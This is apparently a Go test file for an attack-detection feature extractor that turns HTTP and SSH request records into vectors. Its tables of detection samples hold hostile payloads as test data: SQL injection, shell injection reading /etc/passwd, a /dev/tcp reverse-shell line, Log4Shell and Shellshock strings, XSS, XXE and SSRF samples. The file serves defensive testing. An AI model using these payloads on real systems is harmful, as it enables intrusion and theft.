package feature

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cespare/xxhash/v2"

	"github.com/battle-hardened-ai/bhtrain/dataset/record"
	"github.com/battle-hardened-ai/bhtrain/internal/testkit"
)

// vector returns the vector of a payload alone.
func vector(t testing.TB, payload string) []float32 {
	t.Helper()
	return vectorOf(t, record.Record{Time: record.NoTime, Payload: payload})
}

func vectorOf(t testing.TB, r record.Record) []float32 {
	t.Helper()
	v := make([]float32, Dim)
	plainExtractor(t).Vector(v, &r, nil)
	check(t, v)
	return v
}

var plainExtractor = func() func(testing.TB) *Extractor {
	var once sync.Once
	var e *Extractor
	return func(t testing.TB) *Extractor {
		once.Do(func() { e = extractor(t, DefaultConfig()) })
		return e
	}
}()

// check fails unless every value is a whole number within its column's bound.
func check(t testing.TB, v []float32) {
	t.Helper()
	for i, x := range v {
		if !(x >= 0 && x <= float32(Columns[i].Max)) || x != float32(math.Trunc(float64(x))) {
			t.Errorf("%s = %v, want a whole number from 0 to %d", Columns[i].Name, x, Columns[i].Max)
		}
	}
}

func at(v []float32, name string) float32 {
	for i, c := range Columns {
		if c.Name == name {
			return v[i]
		}
	}
	panic("no column " + name)
}

// differing names the columns in which two vectors differ.
func differing(a, b []float32) []string {
	var out []string
	for i := range a {
		if a[i] != b[i] {
			out = append(out, Columns[i].Name)
		}
	}
	return out
}

func TestAnswersNeverReachTheVector(t *testing.T) {
	r := typical
	r.Time = 1_700_000_000_000_000
	r.User = "root"
	e := plainExtractor(t)
	base, other := make([]float32, Dim), make([]float32, Dim)
	e.Vector(base, &r, NewTracker(e.Config()))
	hidden := map[string]func(*record.Record){
		"label":   func(r *record.Record) { r.Label = "sqli" },
		"level":   func(r *record.Record) { r.Level = record.LevelCritical },
		"kind":    func(r *record.Record) { r.Kind = record.Cowrie },
		"event":   func(r *record.Record) { r.Event = "sensor-1" },
		"outcome": func(r *record.Record) { r.Outcome = record.OutcomeFailure },
		"exploit": func(r *record.Record) { r.Exploit = 4711 },
	}
	for name, change := range hidden {
		x := r
		change(&x)
		e.Vector(other, &x, NewTracker(e.Config()))
		if d := differing(base, other); d != nil {
			t.Errorf("%s changes %v", name, d)
		}
	}
	for name, change := range map[string]func(*record.Record){
		"payload":  func(r *record.Record) { r.Payload += "'" },
		"agent":    func(r *record.Record) { r.Agent = "Nikto/2.1.6" },
		"user":     func(r *record.Record) { r.User = "mallory99" },
		"port":     func(r *record.Record) { r.Port = 22 },
		"protocol": func(r *record.Record) { r.Protocol = "ssh" },
		"method":   func(r *record.Record) { r.Method = "TRACE" },
		"status":   func(r *record.Record) { r.Status = 404 },
		"size":     func(r *record.Record) { r.Size = 0 },
		"referer":  func(r *record.Record) { r.Referer = "" },
		"address":  func(r *record.Record) { r.Address = "2001:db8::1" },
	} {
		x := r
		change(&x)
		e.Vector(other, &x, NewTracker(e.Config()))
		if differing(base, other) == nil {
			t.Errorf("%s changes nothing", name)
		}
	}
}

func TestLaterEventsSeeOutcomesButNeverLabels(t *testing.T) {
	e := plainExtractor(t)
	after := func(change func(*record.Record)) []float32 {
		tr := NewTracker(e.Config())
		v := make([]float32, Dim)
		r := typical
		r.Time = 1
		change(&r)
		e.Vector(v, &r, tr)
		r = typical
		r.Time = 2
		e.Vector(v, &r, tr)
		return v
	}
	base := after(func(*record.Record) {})
	if d := differing(base, after(func(r *record.Record) {
		r.Label, r.Level, r.Kind, r.Event, r.Exploit = "sqli", record.LevelCritical, record.Access, "x", 9
	})); d != nil {
		t.Errorf("an earlier label changes %v", d)
	}
	if d := differing(base, after(func(r *record.Record) { r.Outcome = record.OutcomeFailure })); !slices.Contains(d, "failed") {
		t.Errorf("an earlier failure changes %v", d)
	}
}

func TestOneBadParameterIsNotDrownedByALongLine(t *testing.T) {
	attack := "1' union select user,pass from users-- "
	short := vector(t, "/a.php?id="+attack)
	long := vector(t, "/a.php?"+strings.Repeat("colour=green&", 40)+"id="+attack+"&view=list")
	for _, name := range []string{"sql_words", "sql_union", "sql_from", "sql_parts", "sql_tail", "part_punctuation", "families", "part_families", "entropy_part", "quote_odd"} {
		if a, b := at(short, name), at(long, name); a != b || a == 0 {
			t.Errorf("%s: %v in a short line, %v in a long one", name, a, b)
		}
	}
	if benign := vector(t, "/a.php?"+strings.Repeat("colour=green&", 40)+"id=1&view=list"); at(benign, "families") != 0 || at(benign, "sql_words") != 0 {
		t.Error("the line without the attack shows one")
	}
}

var signs = []struct {
	column  string
	attacks []string
	benign  []string
}{
	{"sql_union", []string{"1 union select 2", "1 union all select 2", "/**/union/**/distinct/**/select/**/1"}, []string{"the union will select a leader", "european union", "select"}},
	{"sql_equal", []string{"1 or 1=1", `" or "a"="a`, "') or ('x' like 'x"}, []string{"a=b", "1 or 2=3", "x = y"}},
	{"sql_logic", []string{"1' or 2>1", `1") and 3=4`, "7 || 1=1"}, []string{"salt and pepper", "this or that"}},
	{"sql_timing", []string{"1; waitfor delay '0:0:5'", "sleep(5)", "1 and pg_sleep(9)"}, []string{"sleep well", "no delay"}},
	{"sql_stacked", []string{"1; drop table x", "1';select 2"}, []string{"one; two", "drop"}},
	{"sql_order", []string{"1' order by 3-- ", "1 group by x"}, []string{"in order to get by", "orderby=price"}},
	{"sql_subselect", []string{"1+(select 2)"}, []string{"(selected)"}},
	{"sql_tail", []string{"admin'-- ", "1' or 1#", "x'/*"}, []string{"well -- sort of"[:4], "a#b", "rock--roll"}},
	{"sql_schema", []string{"select x from information_schema.tables"}, []string{"information schema"}},
	{"hex_literals", []string{"concat(0x7171,1)"}, []string{"0x", "1x71"}},
	{"shell_after", []string{";id", "x|/usr/bin/id", "a && cat /etc/passwd", "`whoami`", "$(uname -a)", "x\ncat y", "|| 'ping' -c 1 h"}, []string{"id", "cat; dog food", "a|b", "this & that"}},
	{"shell_first", []string{"/bin/cat x", "ping -c 3 h", "/usr/bin/id"}, []string{"/find", "my id", "/the/id"}},
	{"shell_option", []string{"wget http"[:4] + " -q x", "ping.exe -n 3 h", "cat /etc/hosts"}, []string{"cat food", "ping"}},
	{"shell_substitution", []string{"$(x)", "`x`", "cat${ifs}y"}, []string{"$x", "(x)"}},
	{"shell_redirect", []string{"cat x > /tmp/y", "bash -i >& /dev/tcp/1.2.3.4/5"}, []string{"a > b", "cat x"}},
	{"traversal_ups", []string{"../x", "/a/../b", `..\..\x`, "/..;/manager", "....//x", "/..{file}", "/.../x"}, []string{"a..b", "wait...", "..", "1.2.3"}},
	{"sensitive", []string{"/etc/passwd", `c:\boot.ini`, "/proc/self/environ"}, []string{"passwd", "boots", "etcetera"}},
	{"drive", []string{`c:\x`, "d:/x"}, []string{"c:x", "http://x"}},
	{"scheme_first", []string{"http://h/x", "php://filter", "data:text/html,x"}, []string{"/http://h", "note: x"}},
	{"scheme_inside", []string{"/a?u=http://h/x", "/r?x=ftp://h"}, []string{"http://h/x", "/a?u=http"}},
	{"scheme_wrapper", []string{"php://input", "/a?f=phar://x", "file:///etc/passwd", "gopher://h"}, []string{"http://h", "profile: /x"}},
	{"scheme_script", []string{"javascript:alert(1)", `<a href="vbscript:x">`, "data:text/html;base64,x"}, []string{"javascript", "data: x", "learn javascript: x"[:17]}},
	{"internal_host", []string{"http://127.0.0.1/", "http://localhost/", "http://169.254.169.254/latest", "10.1.2.3", "172.20.0.1"}, []string{"8.8.8.8", "172.40.0.1", "1.10.2.3.4.5"[:4], "local host"}},
	{"tags_known", []string{"<script>", "<img src=x>", "<SvG/onload=x>"}, []string{"a < script", "<b>", "script"}},
	{"event_handlers", []string{"<x onerror=y>", `" onmouseover = "y`}, []string{"online=1", "one=1", "on"}},
	{"script_calls", []string{"alert(1)", "prompt`1`", "x=eval(y)"}, []string{"alert", "alert 1"}},
	{"script_words", []string{"document.cookie", "window.location"}, []string{"document", "a cookie"}},
	{"xml_entity", []string{`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///z">]>`}, []string{"<x>", "entity"}},
	{"template", []string{"{{7*7}}", "<%= x %>", "#{x}", "{% x %}"}, []string{"{x}", "50% off"}},
	{"lookup", []string{"${jndi:ldap://h/a}", "${${lower:j}ndi:x}"}, []string{"${x}", "jndi"}},
	{"code_calls", []string{"system('id')", "phpinfo()", "eval(base64_decode(x))"}, []string{"operating system", "info()"}},
	{"code_open", []string{"<?php x", "<?=x", `<!--#exec cmd="x"-->`}, []string{"<!-- x -->", "php"}},
	{"header_words", []string{"x%0d%0aSet-Cookie: a=b", "x\r\nLocation: y"}, []string{"x\r\ny", "set-cookie: a"}},
	{"serialized", []string{`O:8:"stdClass":0:{}`, "a:1:{i:0;s:1:", "rO0ABXNy"}, []string{"o:8", "a: 1"}},
	{"ldap", []string{"*)(uid=*))(|(uid=*", "x)(&(a=b"}, []string{"f(x)(y)", "(x)"}},
	{"format", []string{"%n%n%n", "%s%s", "%x"}, []string{"100% sure", "%d"}},
	{"null_bytes", []string{"/etc/passwd%00.png"}, []string{"%0a0"}},
	{"hidden_file", []string{"/.git/config", "/x/.env"}, []string{"/x.git", "/./x"}},
	{"ext_backup", []string{"/a/db.sql", "/x.php.bak"}, []string{"/x.php", "/sql"}},
	{"ext_script", []string{"/a.php?x=1", "http://h/x.asp"}, []string{"/a.html", "/php"}},
	{"quote_edge", []string{"1'", "/a?id='59", `x"`}, []string{"o'neill", "'x'"}},
	{"self_references", []string{"/./x", "/a//b"}, []string{"/a/b", "http://h/x"}},
	{"bad_escapes", []string{"100%", "%zz"}, []string{"%41"}},
	{"run_byte", []string{"x"}, []string{""}},
}

func TestSignsOfAttacks(t *testing.T) {
	for _, s := range signs {
		for _, p := range s.attacks {
			if at(vector(t, p), s.column) == 0 {
				t.Errorf("%s is 0 for %q", s.column, p)
			}
		}
		for _, p := range s.benign {
			if x := at(vector(t, p), s.column); x != 0 {
				t.Errorf("%s is %v for %q", s.column, x, p)
			}
		}
	}
}

func TestOrdinaryTextShowsNoAttackFamily(t *testing.T) {
	for _, p := range []string{
		"", "green chair", "o'donnell", "d'artagnan & sons", "select a colour", "the union and the state", "in order to get by",
		"/index.html", "/shop/item.php?id=7&sort=price", "/r?to=https://example.org/a%20b", "cats and dogs; mice", "5 > 3 and 2 < 4",
		`{"name":"Ann","age":7,"tags":["a","b"],"note":"it's fine"}`, "C# and C++", "50% off (today only)", "rock 'n' roll",
		"/wiki/Union_(set_theory)", "/search?q=how+to+cat+a+file", "user@example.com", "a/b/c.tar.gz", "=SUM(A1:A7)", "…wait...", "12:30-13:45",
		"Москва", "東京 タワー", "tel:+49 30 1234", "/a/b?x[]=1&x[]=2", "-- signed, Ann", "see §5 (page 7)",
	} {
		if n := at(vector(t, p), "families"); n != 0 {
			t.Errorf("%v families in %q", n, p)
		}
	}
}

func TestRealOrdinaryTrafficShowsNoAttackFamily(t *testing.T) {
	wrong := 0
	for _, p := range requests(t) {
		if at(vector(t, p), "families") != 0 {
			wrong++
			t.Logf("%q", p)
		}
	}
	seen := map[string][2]int{}
	for _, x := range payloads(t) {
		n := seen[x[1]]
		n[0]++
		if at(vector(t, x[0]), "families") != 0 {
			n[1]++
		}
		seen[x[1]] = n
	}
	if n := seen["norm"]; wrong > 1 || n[1] > 2 {
		t.Errorf("%d real requests and %d of %d ordinary values show an attack family", wrong, n[1], n[0])
	}
	for class, least := range map[string]int{"sqli": 97, "xss": 92, "cmdi": 85, "path-traversal": 65} {
		if n := seen[class]; n[1]*100 < least*n[0] {
			t.Errorf("%s: %d of %d show an attack family, want %d %%", class, n[1], n[0], least)
		}
	}
}

// payloads returns payload and class of the training part of the real
// parameter values.
func payloads(t testing.TB) [][2]string {
	f, err := os.Open(testkit.Data(t, "http-attacks/payload_train.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r := csv.NewReader(f)
	var out [][2]string
	for {
		row, err := r.Read()
		if errors.Is(err, io.EOF) {
			return out[1:]
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, [2]string{row[0], row[2]})
	}
}

func TestHeadersAreJudgedApart(t *testing.T) {
	r := typical
	r.Time = record.NoTime
	if v := vectorOf(t, r); at(v, "header_markers") != 0 || at(v, "agent_browser") != 1 || at(v, "agent_scanner") != 0 {
		t.Error("an ordinary browser is marked")
	}
	r.Agent = "() { :;}; /bin/bash -c 'cat /etc/passwd' ${jndi:ldap://h/a}"
	if v := vectorOf(t, r); at(v, "header_markers") < 2 || at(v, "families") != 0 {
		t.Error("an attack in the user agent is not counted as one in a header")
	}
	r = record.Record{Time: record.NoTime, User: "Root", Agent: "SSH-2.0-libssh2_1.4.3", Protocol: "ssh", Port: 22}
	if v := vectorOf(t, r); at(v, "user_common") != 1 || at(v, "agent_scanner") != 1 || at(v, "agent_browser") != 0 {
		t.Error("a guessing client is not known")
	}
	r.User = "annika"
	if v := vectorOf(t, r); at(v, "user_common") != 0 {
		t.Error("an ordinary user name counts as common")
	}
}

func TestAddressColumns(t *testing.T) {
	for _, x := range []struct {
		address                      string
		v4, v6, reserved, o1, o2, h1 float32
	}{
		{"8.9.10.11", 1, 0, 0, 8, 9, 0},
		{"10.1.2.3", 1, 0, 1, 10, 1, 0},
		{"100.64.1.1", 1, 0, 1, 100, 64, 0},
		{"100.128.1.1", 1, 0, 0, 100, 128, 0},
		{"::ffff:8.9.10.11", 0, 0, 0, 0, 0, 0}, // record.Canonicalize unmaps it before
		{"2a00:1450::1", 0, 1, 0, 0, 0, 0x2a00},
		{"fe80::1", 0, 1, 1, 0, 0, 0xfe80},
		{"2001:db8::1", 0, 1, 1, 0, 0, 0x2001},
		{"host.example", 0, 0, 0, 0, 0, 0},
		{"300.1.2.3", 0, 0, 0, 0, 0, 0},
		{"", 0, 0, 0, 0, 0, 0},
	} {
		v := vectorOf(t, record.Record{Time: record.NoTime, Address: x.address})
		if x.address == "::ffff:8.9.10.11" {
			continue
		}
		got := [...]float32{at(v, "address_v4"), at(v, "address_v6"), at(v, "address_reserved"), at(v, "address_octet1"), at(v, "address_octet2"), at(v, "address_hextet1")}
		if want := [...]float32{x.v4, x.v6, x.reserved, x.o1, x.o2, x.h1}; got != want {
			t.Errorf("%q: %v, want %v", x.address, got, want)
		}
	}
	c := DefaultConfig()
	c.Address = AddressHashed
	v := make([]float32, Dim)
	extractor(t, c).Vector(v, &record.Record{Time: record.NoTime, Address: "8.9.10.11"}, nil)
	for i, x := range v {
		if Columns[i].Group == Address && x != 0 {
			t.Errorf("%s is %v for hashed addresses", Columns[i].Name, x)
		}
	}
}

// varied returns records of every shape, the same on every machine.
func varied() []record.Record {
	var payloads []string
	for _, s := range signs {
		payloads = append(payloads, s.attacks...)
		payloads = append(payloads, s.benign...)
	}
	for _, s := range evasions {
		payloads = append(payloads, s.encode("1' union select name,0x41 from users where id=5-- "), s.encode("/../../etc/passwd"))
	}
	payloads = append(payloads, strings.Repeat("A", 9000), strings.Repeat("%2541", 2000), "Ünïcödé\u200b\uff1cscript\uff1e", "\x00\x01\x7f\xff\xc0\xaf")
	agents := []string{"", typical.Agent, "sqlmap/1.8", "curl/8.5.0", "SSH-2.0-Go", "${jndi:ldap://h}"}
	addresses := []string{"192.0.2.1", "8.8.4.4", "2001:4860::8844", "", "host.example", "198.51.100.7"}
	methods := []string{"GET", "POST", "", "HEAD", "PUT", "PROPFIND"}
	ports := []int32{80, 443, 22, 3306, 0, 65535, 445}
	users := []string{"", "root", "alice7", "' or 1=1-- "}
	var out []record.Record
	for i := range 2 * len(payloads) {
		r := record.Record{
			Site: []string{"", "a", "b"}[i%3], Time: 1_700_000_000_000_000 + int64(i/7)*int64(i%5)*7_000_000,
			Address: addresses[i%len(addresses)], Protocol: []string{"http", "ssh", "tcp"}[i%3], Port: ports[i%len(ports)],
			Method: methods[i%len(methods)], Payload: payloads[i%len(payloads)], Agent: agents[i%len(agents)],
			User: users[i%len(users)], Status: []int32{0, 200, 404, 403, 500}[i%5], Size: int64(i) * int64(i) * 77,
			Outcome: record.Outcome(i % 3),
		}
		if i%11 == 0 {
			r.Time = record.NoTime
		}
		if i%4 == 0 {
			r.Referer = "https://example.com/?q=" + r.Payload
		}
		out = append(out, r)
	}
	return out
}

func TestVectorsAreTheSameOnEveryMachine(t *testing.T) {
	c := DefaultConfig()
	c.Lexicon = Learn(slices.Values(titles))
	e := extractor(t, c)
	tr := NewTracker(e.Config())
	h := sha256.New()
	v := make([]float32, Dim)
	records := varied()
	if len(records) < 500 {
		t.Fatalf("%d records", len(records))
	}
	for i := range records {
		e.Vector(v, &records[i], tr)
		check(t, v)
		for _, x := range v {
			h.Write(binary.LittleEndian.AppendUint32(nil, math.Float32bits(x)))
		}
	}
	got := hex.EncodeToString(h.Sum(nil)) + "\n"
	const golden = "testdata/vectors.sha256"
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("digest of the vectors is %s, want %s: raise SchemaVersion when this is meant", got, want)
	}
}

func TestGoroutinesShareAnExtractor(t *testing.T) {
	e := plainExtractor(t)
	records := varied()
	want := make([][]float32, len(records))
	for i := range records {
		want[i] = make([]float32, Dim)
		e.Vector(want[i], &records[i], nil)
	}
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			v := make([]float32, Dim)
			for i := range records {
				e.Vector(v, &records[i], nil)
				if !slices.Equal(v, want[i]) {
					t.Errorf("record %d differs in %v", i, differing(v, want[i]))
					return
				}
			}
		})
	}
	wg.Wait()
}

func TestVectorDoesNotAllocateInSteadyState(t *testing.T) {
	e := plainExtractor(t)
	tr := NewTracker(e.Config())
	v := make([]float32, Dim)
	r, h := typical, hostile
	step := func() {
		r.Time += 1000
		h.Time = r.Time
		e.Vector(v, &r, tr)
		e.Vector(v, &h, tr)
	}
	step()
	if n := testing.AllocsPerRun(500, step); n >= 1 {
		t.Errorf("%v allocations", n)
	}
}

func TestHostileTextsTakeBoundedTime(t *testing.T) {
	e := plainExtractor(t)
	v := make([]float32, Dim)
	for _, unit := range []string{"/*", "/*!", "%25", "%2525252525", "&a", "&a=", "a=", "..;/", "'", ")(", "o:1", "<script", "\x00", "&#x41", "&lt;", "${", "http://", "1.1.1.1", "0x2e", "\\u0041", "union select ", ".", "\xc0", "x "} {
		r := record.Record{Time: record.NoTime, Payload: strings.Repeat(unit, 8<<10/len(unit)), Agent: strings.Repeat(unit, 8<<10/len(unit))}
		least := time.Hour
		for range 5 {
			start := time.Now()
			e.Vector(v, &r, nil)
			least = min(least, time.Since(start))
		}
		check(t, v)
		if least > 50*time.Millisecond {
			t.Errorf("%q repeated takes %v", unit, least)
		}
	}
}

func TestLongPayloadsAreSeenFromBothEnds(t *testing.T) {
	pad := strings.Repeat("a ", 20<<10)
	if at(vector(t, pad+"1' union select 2-- "), "sql_union") == 0 || at(vector(t, "1' union select 2-- "+pad), "sql_union") == 0 {
		t.Error("padding hides an attack")
	}
	if at(vector(t, pad), "sql_union") != 0 {
		t.Error("padding alone is an attack")
	}
}

func FuzzVector(f *testing.F) {
	for _, s := range signs {
		f.Add(s.attacks[0], typical.Agent, "root", "192.0.2.1", int64(5), int32(80))
	}
	for _, s := range evasions {
		f.Add(s.encode("/a?b=../../etc/passwd' or 1=1"), "", "", "::1", int64(0), int32(0))
	}
	f.Add("\xff\xfe%c0%80&#0;%u0000", "(", ")", "300.300.300.300", int64(math.MinInt64), int32(-1))
	f.Fuzz(func(t *testing.T, payload, agent, user, address string, when int64, port int32) {
		e := plainExtractor(t)
		r := record.Record{Time: when, Payload: payload, Agent: agent, Referer: payload, User: user, Address: address, Port: port, Size: when, Status: port}
		a, b := make([]float32, Dim), make([]float32, Dim)
		first, second := NewTracker(e.Config()), NewTracker(e.Config())
		for k := range int64(4) {
			r.Time = when + k*int64(port)*1_000_003
			e.Vector(a, &r, first)
			check(t, a)
			e.Vector(b, &r, second)
			if d := differing(a, b); d != nil {
				t.Fatalf("two runs differ in %v", d)
			}
		}
	})
}

func ExampleExtractor_Vector() {
	config, _ := DefaultConfig().Marshal()
	e, err := New(config)
	if err != nil {
		fmt.Println(err)
		return
	}
	tracker := NewTracker(e.Config())
	v := make([]float32, Dim)
	for second := range int64(3) {
		e.Vector(v, &record.Record{
			Time: second * 1_000_000, Address: "198.51.100.9", Protocol: "http", Method: "GET",
			Payload: "/item.php?id=1%2527%20OR%201=1",
		}, tracker)
	}
	for _, name := range []string{"decode_layers", "sql_equal", "families", "events", "marked_share"} {
		fmt.Println(name, at(v, name))
	}
	// Output:
	// decode_layers 2
	// sql_equal 1
	// families 1
	// events 2
	// marked_share 100
}

func TestThreeBytesHashAsAnyBytesDo(t *testing.T) {
	for i := range 1 << 16 {
		b := [3]byte{byte(i), byte(i >> 8), byte(i * 167)}
		if got, want := sum3(b[0], b[1], b[2]), xxhash.Sum64(b[:]); got != want {
			t.Fatalf("%x: %x, want %x", b, got, want)
		}
	}
}
